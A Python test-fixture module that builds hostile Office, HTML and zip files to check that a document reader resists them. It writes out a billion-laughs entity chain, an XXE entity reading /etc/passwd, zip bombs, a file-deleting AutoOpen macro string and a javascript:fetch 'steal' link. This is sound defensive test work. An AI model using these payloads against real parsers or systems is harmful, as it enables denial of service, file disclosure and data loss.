"""Hostile and malformed Word, Excel, PowerPoint, CSV and HTML files, written in milliseconds.

Each builder attacks one part of reading a format: the zip container (bombs, damage,
a different package under the name), the XML parsers (entity expansion, external
entities), the sheet reader (cell counts), the CSV reader (field sizes) and the HTML
reader (nesting, scripts, frames). tests/test_bad_input.py tables them.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

from .hostile import zeros_deflate
from .officegen import repack, write_docx, write_pptx, write_xlsx

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))  # l9: 10^9 "lol"s
XXE = '<!ENTITY xxe SYSTEM "file:///etc/passwd">'


def raw_zip(path: Path, members: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip of (name, raw deflate data, stated size, CRC) members, written by hand: zipfile
    itself would have to compress the gigabytes a bomb states."""
    out, central = bytearray(), bytearray()
    for name, data, size, crc in members:
        n = name.encode()
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(data), size, len(n), 0, 0, 0, 0, 0, len(out)) + n
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(data), size, len(n), 0) + n + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(), len(data), zlib.crc32(data)


def zip_bomb(path: Path, n_mb: int, *, main: str = "word/document.xml") -> Path:
    """An Office package whose main part states (and would inflate to) `n_mb` MiB of zeros.
    Its CRC is not computed: a reader that checks sizes first never gets that far."""
    zeros = zeros_deflate(n_mb)[2:-4]  # the zlib stream less its header and checksum: raw deflate
    types = _deflated(b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    return raw_zip(path, [("[Content_Types].xml", *types), (main, zeros, n_mb << 20, 0)])


def docx_with_body(path: Path, body_xml: str, *, doctype: str = "") -> Path:
    """A valid .docx whose document.xml is replaced by one with `body_xml` (and a DOCTYPE)."""
    write_docx(path, [(0, "placeholder")])
    dt = f"<!DOCTYPE w:document [{doctype}]>" if doctype else ""
    xml = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{dt}<w:document xmlns:w="{W}"><w:body>{body_xml}</w:body></w:document>'
    return repack(path, path, lambda parts: {**parts, "word/document.xml": xml.encode()})


def para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx_with_sheet(path: Path, sheet_data: str, *, doctype: str = "") -> Path:
    """A valid .xlsx whose first sheet's XML is replaced by one holding `sheet_data` rows."""
    write_xlsx(path, {"Data": [["placeholder"]]})
    dt = f"<!DOCTYPE worksheet [{doctype}]>" if doctype else ""
    xml = f'<?xml version="1.0" encoding="UTF-8"?>\n{dt}<worksheet xmlns="{S}"><sheetData>{sheet_data}</sheetData></worksheet>'
    return repack(path, path, lambda parts: {**parts, "xl/worksheets/sheet1.xml": xml.encode()})


def inline_row(r: int, cells: dict[str, str]) -> str:
    return f'<row r="{r}">' + "".join(f'<c r="{ref}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for ref, v in cells.items()) + "</row>"


def wide_sparse_sheet(path: Path, rows: int = 70) -> Path:
    """`rows` rows, each with one value in the last column (XFD, the 16,384th): a reader that
    pads rows to the sheet's width handles 16,384 cells a row (70 rows: 1.15 million)."""
    return xlsx_with_sheet(path, "".join(inline_row(r, {"XFD": f"v{r}"}) for r in range(1, rows + 1)))


def with_macros(path: Path, kind: str, text: str) -> Path:
    """A macro-enabled Word (.docm) or Excel (.xlsm) file: the macro content type and a
    vbaProject.bin part, whose "macro" is an AutoOpen that would delete files."""
    if kind == "docm":
        write_docx(path, [(1, "Macro memo"), (0, text)])
        main, macro_type, vba = "wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin"
    else:
        write_xlsx(path, {"Data": [["Note"], [text]]})
        main, macro_type, vba = "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin"

    def edit(parts: dict[str, bytes]) -> dict[str, bytes]:
        types = parts["[Content_Types].xml"].decode()
        types = types.replace(f"application/vnd.openxmlformats-officedocument.{main}", macro_type)
        types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        return {**parts, "[Content_Types].xml": types.encode(), vba: b"\xd0\xcf\x11\xe0Sub AutoOpen(): Kill \"C:\\*.*\": End Sub"}

    return repack(path, path, edit)


def encrypted(path: Path, kind: str) -> Path:
    """A password-protected Word or Excel file, as Office writes one: an OLE file holding
    the encrypted package (msoffcrypto-tool, a dev dependency, encrypts it)."""
    import io

    import pytest

    ooxml = pytest.importorskip("msoffcrypto.format.ooxml", reason="msoffcrypto-tool (dev extra) writes encrypted Office files")
    plain = path.with_name("plain" + path.suffix)
    write_docx(plain, [(0, "Top secret.")]) if kind == "docx" else write_xlsx(plain, {"S": [["Secret"], ["x"]]})
    out = io.BytesIO()
    with plain.open("rb") as f:
        ooxml.OOXMLFile(f).encrypt("password", out)
    plain.unlink()
    path.write_bytes(out.getvalue())
    return path


def truncated(path: Path) -> Path:
    """A .pptx cut in half: its zip directory (at the end) is gone."""
    whole = write_pptx(path, [("Budget", "The budget is 3 million.", "")]).read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    return path


def plain_zip(path: Path) -> Path:
    """An ordinary zip of a text file, named as an Office file."""
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("notes.txt", "Just a zipped note.")
    return path


def nested_html(path: Path, depth: int = 100_000) -> Path:
    path.write_text("<html><body>" + "<div>" * depth + "<p>Deep text.</p>" + "</div>" * depth + "</body></html>")
    return path


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)  # the signature of an OLE compound file, as .doc/.xls/.ppt start
LINKS_BODY = (
    "<p>Click <a href='javascript:fetch(\"http://127.0.0.1:9/steal\")'>here</a> for the warranty terms.</p>"
    "<iframe src='http://127.0.0.1:9/frame'>frame text</iframe><img src='http://127.0.0.1:9/pixel.png' alt=''>"
)
